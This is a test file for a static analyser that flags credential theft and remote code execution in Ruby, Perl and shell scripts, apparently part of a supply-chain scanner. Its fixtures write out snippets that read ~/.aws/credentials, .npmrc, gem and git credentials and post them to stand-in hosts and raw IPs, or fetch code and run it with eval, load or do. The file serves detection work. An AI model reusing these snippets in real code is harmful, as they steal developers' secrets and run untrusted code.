import { describe, expect, it } from 'vitest';
import { scriptLanguage, splitStatements } from '../../../src/analysis/code/scripting/statements.js';
import { factsOf, ofKind } from '../../support/code.js';

const scripting = (code: string) => factsOf('scripting', code);

describe('Ruby and Perl statements', () => {
  it('Ruby: lines, continued lines and open brackets; comments blanked', () => {
    const rb = 'x = foo(1,\n  2) # note eval(y)\ny = a +\n  b\nz = c\n  .strip\n';
    expect(splitStatements(rb, 'ruby').map((s) => s.text.replace(/\s+/g, ' '))).toEqual([
      'x = foo(1, 2)',
      'y = a + b',
      'z = c .strip',
    ]);
  });
  it('Perl: semicolons and block braces, not hash braces or do-blocks', () => {
    const pl = 'sub f {\n my $h = $ENV{HOME};\n my $t = do { local $/; <$fh> };\n}\n';
    expect(splitStatements(pl, 'perl').map((s) => s.text)).toEqual([
      'sub f',
      'my $h = $ENV{HOME}',
      'my $t = do { local $/; <$fh> }',
    ]);
  });
  it('language by shebang, else by everyday words', () => {
    expect(scriptLanguage('#!/usr/bin/env ruby\nputs 1')).toBe('ruby');
    expect(scriptLanguage('use strict;\nmy $x = 1;\n')).toBe('perl');
    expect(scriptLanguage('require "json"\ndef x\nend\n')).toBe('ruby');
    expect(scriptLanguage('<?php echo 1;')).toBeUndefined();
  });
});

describe('Ruby', () => {
  it('a credentials path built with File.join, read in a method, posted by its caller', async () => {
    const r = await scripting(
      [
        'require "net/http"',
        'class Check',
        '  HOST = "https://policy-sync.net/api/"',
        '  def run',
        '    Net::HTTP.post_form(URI(HOST + "owner"), "k" => token)',
        '  end',
        '  def token',
        '    path = File.join(Dir.home, ".gem", "credentials")',
        '    File.read(path)',
        '  end',
        'end',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([
      { secret: 'registry-token', target: { text: '~/.gem/credentials' } },
    ]);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: 'policy-sync.net' }, data: { secret: 'registry-token' } },
    ]);
  });
  it('File.expand_path, ENV secret names, HTTParty body', async () => {
    const r = await scripting(
      'k = IO.read(File.expand_path("~/.aws/credentials"))\nt = ENV["DEPLOY_TOKEN"]\nHTTParty.post("https://45.133.1.9/x", body: { a: k, b: t })\n',
    );
    expect(ofKind(r, 'read').map((b) => b.secret)).toEqual(['cloud-credentials', 'env-secret']);
    expect(ofKind(r, 'send')[0]).toMatchObject({ data: { taints: expect.arrayContaining(['secret']) } });
  });
  it('downloaded code run by instance_eval, Kernel.eval, an instruction sequence, or load of the file written', async () => {
    const r = await scripting(
      [
        'src = URI.open("https://cdn-assets-sync.net/a.rb").read',
        'Object.new.instance_eval(src)',
        'Kernel.eval(src)',
        'RubyVM::InstructionSequence.compile(src).eval',
        'File.write("/tmp/x.rb", src)',
        'load "/tmp/x.rb"',
      ].join('\n'),
    );
    expect(ofKind(r, 'execute').map((b) => b.via)).toEqual([
      'instance_eval',
      'eval',
      'RubyVM::InstructionSequence',
      'load',
    ]);
    expect(ofKind(r, 'execute')[0]).toMatchObject({ endpoint: { host: 'cdn-assets-sync.net' } });
  });
  it('not: a block instance_eval, eval of the script own text, JSON.parse of a response, File.exist?', async () => {
    const r = await scripting(
      'cfg = File.join(Dir.home, ".gem", "credentials")\nabort "sign in" unless File.exist?(cfg)\nbody = Net::HTTP.get(URI("https://rubygems.org/api/v1/x.json"))\ndata = JSON.parse(body)\nobj.instance_eval { @x = 1 }\neval("1 + 1")\n',
    );
    expect(ofKind(r, 'read')).toEqual([]);
    expect(ofKind(r, 'execute')).toEqual([]);
    expect(ofKind(r, 'fetch')).toHaveLength(1);
  });
  it('require_relative is a source fact the reference graph follows', async () => {
    const r = await scripting('require "json"\nrequire_relative "lib/policy"\nrequire "./helpers.rb"\n');
    expect(ofKind(r, 'source').map((b) => b.target.text)).toEqual(['./lib/policy.rb', './helpers.rb']);
  });
});

describe('Perl', () => {
  it('git credential fill over open2, the answer posted with HTTP::Tiny', async () => {
    const r = await scripting(
      [
        'use IPC::Open2;',
        'use HTTP::Tiny;',
        "my $pid = open2(my $out, my $in, 'git', 'credential', 'fill');",
        'my $answer = do { local $/; <$out> };',
        "HTTP::Tiny->new(timeout => 3)->post_form('https://45.133.1.4/h', { a => $answer });",
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'git-credentials' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { cls: 'raw-ip' }, data: { secret: 'git-credentials' } },
    ]);
  });
  it('a secret file opened for reading, sent by an LWP client held in a variable', async () => {
    const r = await scripting(
      'use LWP::UserAgent;\nmy $p = "$ENV{HOME}/.npmrc";\nopen(my $fh, \'<\', $p) or die;\nmy $t = <$fh>;\nmy $ua = LWP::UserAgent->new;\n$ua->post("https://relay-sync.net/x", Content => $t);\n',
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'registry-token' }]);
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'registry-token' } }]);
  });
  it('eval of a fetched body, and do of a file getstore saved', async () => {
    const r = await scripting(
      "use LWP::Simple;\nmy $c = get('https://cdn-assets-sync.net/p.pl');\neval $c;\ngetstore('https://cdn-assets-sync.net/q.pl', '/tmp/q.pl');\ndo '/tmp/q.pl';\n",
    );
    expect(ofKind(r, 'execute').map((b) => b.via)).toEqual(['eval', 'do']);
  });
  it('not: eval blocks, a GET printed, an unrelated object method', async () => {
    const r = await scripting(
      'use HTTP::Tiny;\nmy $r = HTTP::Tiny->new->get("https://api.github.com/repos/x/y");\nprint $r->{content};\neval { risky() };\nmy $v = $cache->post("k", 1);\n',
    );
    expect(ofKind(r, 'execute')).toEqual([]);
    expect(ofKind(r, 'send')).toEqual([]);
    expect(ofKind(r, 'fetch')).toHaveLength(1);
  });
  it('use lib and a module under it are a source fact', async () => {
    const r = await scripting(
      'use strict;\nuse FindBin;\nuse lib "$FindBin::Bin/lib";\nuse Notify::Relay;\n',
    );
    expect(ofKind(r, 'source').map((b) => b.target.text)).toEqual(['./lib/Notify/Relay.pm']);
  });
});

describe('shell: git credential fill and core.fsmonitor', () => {
  it('git credential fill is a read of stored git credentials that flows on', async () => {
    const r = await factsOf(
      'shell',
      'a=$(printf "protocol=https\\nhost=github.com\\n\\n" | git credential fill)\ncurl -d "$a" https://45.133.1.5/\n',
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'git-credentials' }]);
    expect(ofKind(r, 'send')).toMatchObject([{ data: { secret: 'git-credentials' } }]);
  });
  it('core.fsmonitor set to a program is a setting; true is git’s own daemon', async () => {
    const r = await factsOf(
      'shell',
      'git config core.fsmonitor true\ngit config core.fsmonitor .git/hooks/watch\n',
    );
    expect(ofKind(r, 'config')).toMatchObject([
      { setting: 'git-program', value: 'core.fsmonitor=.git/hooks/watch' },
    ]);
  });
});

describe('hostile input', () => {
  it('long, unbalanced and repetitive scripts stay fast', async () => {
    const cases = [
      `#!/usr/bin/env ruby\n${'x = File.join(Dir.home, ENV["A_TOKEN"], ('.repeat(3000)}\n`,
      `use strict;\n${'my $a = "\'{(; '.repeat(20000)}`,
      `#!/usr/bin/perl\n${'$ua->post($u, { a => $ENV{SECRET_KEY} }); '.repeat(4000)}`,
      `#!/usr/bin/env ruby\n${'Net::HTTP.post_form(URI(u), "k" => ENV["X_TOKEN"]) + '.repeat(4000)}`,
      `#!/usr/bin/env ruby\n${'a = b\n'.repeat(30000)}${'<<EOS\n'.repeat(2000)}`,
      `#!/usr/bin/perl\nprint ${' '.repeat(50000)}x;\neval ${' '.repeat(50000)}x;\n`,
    ];
    for (const code of cases) {
      const t = Date.now();
      await scripting(code);
      expect(Date.now() - t).toBeLessThan(2000);
    }
  });
});

describe('documentation is not code', () => {
  it('Perl POD and __END__, Ruby =begin blocks', () => {
    const pl = "my $a = 1;\n=head1 NAME\n\nit's eval $x\n\n=cut\nmy $b = 2;\n__END__\neval $y;\n";
    expect(splitStatements(pl, 'perl').map((s) => s.text)).toEqual(['my $a = 1', 'my $b = 2']);
    const rb = "a = 1\n=begin\ndon't eval(x)\n=end\nb = 2\n";
    expect(splitStatements(rb, 'ruby').map((s) => s.text)).toEqual(['a = 1', 'b = 2']);
  });
});

describe('regex literals', () => {
  it('quotes inside =~ patterns do not open strings', () => {
    const pl =
      "(my $x = $y) =~ s/'/\\\\'/g;\nmy $z = 1;\n$a =~ s{\"}{}g;\nmy $w = 2;\n$b =~ tr/'//d;\nmy $v = 3;\n";
    expect(splitStatements(pl, 'perl').map((s) => s.text)).toEqual([
      "(my $x = $y) =~ s/'/\\\\'/g",
      'my $z = 1',
      '$a =~ s{"}{}g',
      'my $w = 2',
      "$b =~ tr/'//d",
      'my $v = 3',
    ]);
    const rb = "ok = name =~ /'/\nx = 1\n";
    expect(splitStatements(rb, 'ruby').map((s) => s.text)).toEqual(["ok = name =~ /'/", 'x = 1']);
  });
});
